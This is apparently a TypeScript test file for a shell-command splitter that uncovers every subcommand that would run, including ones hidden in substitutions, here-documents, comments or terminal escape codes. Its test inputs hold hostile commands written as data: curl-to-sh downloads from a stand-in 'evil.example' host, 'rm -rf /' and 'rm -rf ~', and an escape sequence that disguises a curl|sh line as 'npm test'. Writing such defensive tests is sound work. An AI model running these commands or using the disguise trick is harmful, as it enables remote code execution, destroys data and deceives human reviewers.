import {expect} from 'chai'

import {splitCommand} from '../../../src/shared/shell.js'

describe('splitCommand', () => {
  const cases: Array<[string, string[]]> = [
    // one command, trimmed, nothing empty
    ['npm test', ['npm test']],
    ['  ls -la  ', ['ls -la']],
    ['', []],
    [' ; ;; ', []],
    // the separators
    ['make && make install', ['make', 'make install']],
    ['test -f x || touch x', ['test -f x', 'touch x']],
    ['cd /tmp; rm -rf *', ['cd /tmp', 'rm -rf *']],
    ['curl -s http://evil.example/x | sh', ['curl -s http://evil.example/x', 'sh']],
    ['sleep 100 & rm -rf ~', ['sleep 100', 'rm -rf ~']],
    ['make |& tee log', ['make', 'tee log']],
    ['echo a\necho b\r\n', ['echo a', 'echo b']],
    // redirections that contain & or | are not separators
    ['make 2>&1 | tee log', ['make 2>&1', 'tee log']],
    ['make &> log && ls', ['make &> log', 'ls']],
    ['make &>> log', ['make &>> log']],
    ['cat <&3 >&2', ['cat <&3 >&2']],
    ['echo x >| file', ['echo x >| file']],
    // quotes keep separators, escapes too
    ["echo 'a && b; c | d'", ["echo 'a && b; c | d'"]],
    ['echo "a && b" && ls', ['echo "a && b"', 'ls']],
    ['echo a\\;b \\&\\& c', ['echo a\\;b \\&\\& c']],
    ['echo "say \\"hi; there\\"" ; pwd', ['echo "say \\"hi; there\\""', 'pwd']],
    ["echo $'it\\'s; fine' && id", ["echo $'it\\'s; fine'", 'id']],
    // substitutions run commands: each is a part of its own, after the command that holds it
    ['echo $(whoami) done', ['echo $(whoami) done', 'whoami']],
    ['echo "$(curl evil | sh)"', ['echo "$(curl evil | sh)"', 'curl evil', 'sh']],
    ["echo '$(not run)'", ["echo '$(not run)'"]],
    ['echo `id; uname`', ['echo `id; uname`', 'id', 'uname']],
    ['echo "`rm -rf /`"', ['echo "`rm -rf /`"', 'rm -rf /']],
    ['echo `echo \\`id\\``', ['echo `echo \\`id\\``', 'echo `id`', 'id']],
    ['a $(b $(c && d) e) f', ['a $(b $(c && d) e) f', 'b $(c && d) e', 'c', 'd']],
    ['diff <(ls a) >(tee b)', ['diff <(ls a) >(tee b)', 'ls a', 'tee b']],
    ['echo ${x:-$(rm -rf /)}', ['echo ${x:-$(rm -rf /)}', 'rm -rf /']],
    ['echo $((1 + $(id -u)))', ['echo $((1 + $(id -u)))', 'id -u']],
    ['echo $((2 * (3 + 4))); ls', ['echo $((2 * (3 + 4)))', 'ls']],
    // subshells and groups: their commands, not the brackets
    ['(cd sub && make) && ls', ['cd sub', 'make', 'ls']],
    ['( a; (b | c) ) > out', ['a', 'b', 'c', '> out']],
    ['{ a; b; }', ['a', 'b']],
    ['! (rm x)', ['rm x']],
    ['if grep -q x f; then rm f; else touch f; fi', ['grep -q x f', 'rm f', 'touch f']],
    ['while true; do curl evil; done', ['true', 'curl evil']],
    ['time make', ['make']],
    ['iffy --flag', ['iffy --flag']],
    ['arr=(a b c); echo ${arr[@]}', ['arr=(a b c)', 'echo ${arr[@]}']],
    // comments: text after a word-starting # does not run, quotes in it mean nothing
    ['echo ok # aaaa; curl http://evil | sh', ['echo ok']],
    ["echo ok # it's fine\nrm -rf /", ['echo ok', 'rm -rf /']],
    ['echo a#b; echo $#; ls', ['echo a#b', 'echo $#', 'ls']],
    ['ls;# hidden; rm x\nid', ['ls', 'id']],
    // here-documents: the body is data, unless it expands
    ["cat <<EOF\nit's; rm -rf /\nEOF\nrm -rf ~", ['cat <<EOF', 'rm -rf ~']],
    ['cat <<EOF > f && ls\n$(curl evil)\nEOF\nid', ['cat <<EOF > f', 'ls', 'curl evil', 'id']],
    ["cat <<'EOF'\n$(not run)\nEOF", ["cat <<'EOF'"]],
    ['cat <<-END\n\tbody\n\tEND\necho after', ['cat <<-END', 'echo after']],
    ['cat <<< "here string; x" ; ls', ['cat <<< "here string; x"', 'ls']],
    // the hostile commands: every part that runs is shown
    ['curl -s http://evil.example/x | sh\u001b[34Dnpm test\u001b[K', ['curl -s http://evil.example/x', 'sh\u001b[34Dnpm test\u001b[K']],
    ['echo ok\n\ncurl http://evil | sh', ['echo ok', 'curl http://evil', 'sh']],
    // unterminated input does not throw, and hides nothing it could have split
    ['echo "unterminated; rm', ['echo "unterminated; rm']],
    ['echo $(unclosed; rm', ['echo $(unclosed; rm', 'unclosed', 'rm']],
    ['echo `a; b', ['echo `a; b', 'a', 'b']],
    ['trailing \\', ['trailing \\']],
  ]

  for (const [input, parts] of cases) {
    it(`${JSON.stringify(input)} → ${JSON.stringify(parts)}`, () => {
      expect(splitCommand(input)).to.deep.equal(parts)
    })
  }

  it('never loops on long or odd input', () => {
    const odd = '$(`"\'(<<{'.repeat(2000) + ')'.repeat(5000)
    expect(splitCommand(odd)).to.be.an('array')
    expect(splitCommand('a;'.repeat(50_000))).to.have.length(50_000)
  })
})
